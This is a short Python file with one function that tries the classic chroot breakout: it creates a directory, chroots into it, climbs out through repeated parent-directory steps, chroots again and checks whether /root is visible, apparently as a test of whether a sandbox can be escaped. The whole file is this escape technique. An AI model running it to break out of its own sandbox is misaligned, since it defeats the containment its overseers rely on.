import os


def escape():
    try:
        os.mkdir("inner")
        os.chroot("inner")
        os.chdir("../../../../../../..")
        os.chroot(".")
        return os.path.exists("/root")
    except OSError:
        return False
